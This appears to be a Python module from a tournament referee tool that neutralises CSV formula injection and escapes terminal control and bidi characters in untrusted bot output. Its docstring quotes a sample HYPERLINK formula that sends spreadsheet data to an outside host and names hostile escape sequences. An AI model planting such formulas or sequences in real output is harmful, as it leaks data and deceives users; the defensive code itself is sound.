"""Untrusted text on its way out: CSV cells a spreadsheet opens, text a terminal shows.

A team names its bot and its bot names itself (``GET /``), prints what it
likes to its stdout and stderr, and puts text into its faults. All of that
reaches two readers that act on what they read:

- a spreadsheet opening a CSV the referee wrote (``standings.csv``, the
  tokens CSV, the final's CSV) runs a cell that starts with ``=``, ``+``,
  ``-``, ``@``, a tab or a carriage return as a formula
  (``=HYPERLINK("http://x/?"&A1, "y")`` sends the sheet away).
  :func:`csv_cell` neutralises such a cell as OWASP's "CSV Injection" page
  says: a single quote in front, so that the cell is text; :func:`csv_writer`
  does so for every cell it writes.
- a terminal showing what ``referee match``, ``check``, ``replay`` or
  ``tournament`` print obeys escape sequences (``ESC ] 0;title BEL`` retitles
  the window, ``ESC [ 2J`` clears it, a C1 ``CSI`` moves the cursor, a bidi
  override reverses what follows). :func:`for_terminal` writes every control
  character as a visible escape (``\\x1b``, ``\\u202e``), so no sequence can
  start and the text is still there to read.

A leaf: the standard library only, below every layer that writes or prints.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Protocol

__all__ = ["CsvWriter", "Verbatim", "csv_cell", "csv_writer", "for_terminal", "json_for_terminal"]

#: What makes a spreadsheet read a cell as a formula when it comes first:
#: OWASP's list (= + - @ tab CR), and the NUL that OWASP ASVS 1.2.10 adds.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")


class Verbatim(str):
    """Text the program made and vouches for, written to a CSV as it is: a
    team token (``[A-Za-z0-9_-]`` only: no function, no reference, no URL can
    be spelled with those; a quote in front of one starting with ``-`` would
    make it a wrong token)."""

    __slots__ = ()


def csv_cell(value: object) -> object:
    """`value` fit for a CSV cell a spreadsheet may open.

    Numbers are written as they are: an ``int`` or ``float`` is one the
    program computed (a rating of -1.5 stays a number a spreadsheet can add
    up); the decision is by type, never by what a text looks like, so a bot
    named ``-2`` is text and quoted. ``None`` is an empty cell. Any other
    value is text: one that starts with a formula character
    (:data:`FORMULA_STARTS`) gets a single quote in front (OWASP), except a
    :class:`Verbatim` one.
    """
    if value is None:
        return ""
    if isinstance(value, (int, float)):  # bool included: True / False
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_STARTS) and not isinstance(value, Verbatim):
        return "'" + text
    return text


class _Writable(Protocol):
    def write(self, s: str, /) -> object: ...


class CsvWriter:
    """:func:`csv.writer` whose every cell goes through :func:`csv_cell`."""

    def __init__(self, file: _Writable) -> None:
        self._writer = csv.writer(file)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([csv_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(file: _Writable) -> CsvWriter:
    """A CSV writer (the ``excel`` dialect) for `file` that neutralises formulas (:func:`csv_cell`)."""
    return CsvWriter(file)


# ------------------------------------------------------------------ terminal

#: The bidirectional controls (Trojan Source): the embeddings and overrides
#: U+202A-202E, the isolates U+2066-2069, and the marks U+200E, U+200F, U+061C.
_BIDI = (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)


#: The escapes of the controls everybody knows by name.
_NAMED = {0x09: "\\t", 0x0A: "\\n", 0x0D: "\\r"}


def _escape(code: int) -> str:
    if code in _NAMED:
        return _NAMED[code]
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


#: Every code point :func:`for_terminal` writes as an escape: C0 (ESC, BEL,
#: CR, backspace...), DEL, C1 (0x80-0x9F: an 8-bit CSI, OSC, DCS), the bidi
#: controls, the line and paragraph separators, and lone surrogates (bytes
#: that were not UTF-8, which a terminal would receive raw).
_UNSAFE: dict[int, str] = {
    code: _escape(code)
    for code in (*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0), *_BIDI, 0x2028, 0x2029, *range(0xD800, 0xE000))
}
_MULTILINE = {**_UNSAFE}
del _MULTILINE[ord("\n")], _MULTILINE[ord("\t")]


def for_terminal(text: str, *, multiline: bool = True) -> str:
    """`text` with every control character written as a visible escape
    (``ESC ] 0;x BEL`` becomes ``\\x1b]0;x\\x07``): no escape sequence,
    C1 control or bidi override reaches the terminal, and what the text
    said can still be read. Line feeds and tabs are kept when `multiline`
    (output meant to have lines); a name or one-line detail passes
    ``multiline=False`` so that it cannot start a line of its own. Applying
    it twice changes nothing more."""
    return text.translate(_MULTILINE if multiline else _UNSAFE)


_JSON_UNSAFE = {code: f"\\u{code:04x}" for code in _UNSAFE if code >= 0x20}


def json_for_terminal(text: str) -> str:
    """JSON text (whose C0 controls are escaped already) with the C1
    controls, bidi controls, separators and lone surrogates written as
    ``\\uXXXX`` escapes too: still the same JSON, and safe to print. They can
    only stand inside JSON strings, where such an escape means the same."""
    return text.translate(_JSON_UNSAFE)
